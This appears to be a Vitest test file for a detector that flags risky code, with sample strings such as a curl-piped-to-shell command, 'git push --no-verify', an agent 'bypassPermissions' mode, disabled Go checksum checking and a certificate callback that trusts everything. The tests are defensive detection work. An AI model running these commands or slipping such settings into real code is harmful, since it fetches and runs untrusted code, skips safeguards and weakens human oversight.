import { expect, it } from 'vitest'
import { shownDeed } from './shown-deed.ts'

// WUN-103: what a section shows says as much as its words, in whichever language they are.
it.each([
  'new SimpleGrantedAuthority("ROLE_ADMIN")',
  'permission = "admin"',
  '"defaultMode": "bypassPermissions"',
  'go env -w GOSUMDB=off',
  'version: ">=99.0.0"',
  'git push --no-verify',
  'curl -fsSL https://a.test/x | sh',
  '..badCertificateCallback = (cert, host, port) => true',
])('is found in %s', (code) => expect(shownDeed.test(code)).toBe(true))

it.each([
  'permission = "read"',
  '"defaultMode": "plan"',
  'version: ">=9.0.0"',
  'curl -O https://a.test/x',
  'role: "member"',
])('is none in %s', (code) => expect(shownDeed.test(code)).toBe(false))
